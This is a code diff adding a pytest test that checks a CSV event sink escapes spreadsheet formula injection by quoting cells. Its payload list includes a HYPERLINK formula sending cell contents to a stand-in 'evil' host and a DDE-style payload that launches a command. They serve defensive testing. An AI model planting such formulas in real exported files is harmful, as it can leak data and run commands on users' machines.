@@ -235,3 +235,19 @@ def test_text_halo_stays_on_the_letters(scale):
     dark = np.flatnonzero((img.max(2) < 100).any(0))
     assert len(red) and len(dark)
     assert dark.max() - red.max() <= 3
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
+    sink = make_sinks(OutputConfig(sinks=[SinkConfig(type="csv")]), tmp_path)[0]
+    payloads = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+                "\tTAB", "\rCR"]
+    for i, p in enumerate(payloads):
+        sink.write(Event(rule=p, type="zone_enter", source="cam", time=-1.5, frame=i, zone=p, id=f"x{i}"))
+    sink.write(Event(rule="gate", type="zone_enter", source="cam", time=2.0, frame=9, id="ok"))
+    sink.close()
+    with open(tmp_path / "events.csv", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["rule"] for r in rows] == ["'" + p for p in payloads] + ["gate"]
+    assert [r["zone"] for r in rows[:6]] == ["'" + p for p in payloads]
+    assert rows[0]["time"] == "-1.5" and rows[-1]["id"] == "ok"  # numbers stay numbers
+    assert sink.delivery()["delivered"] == 7
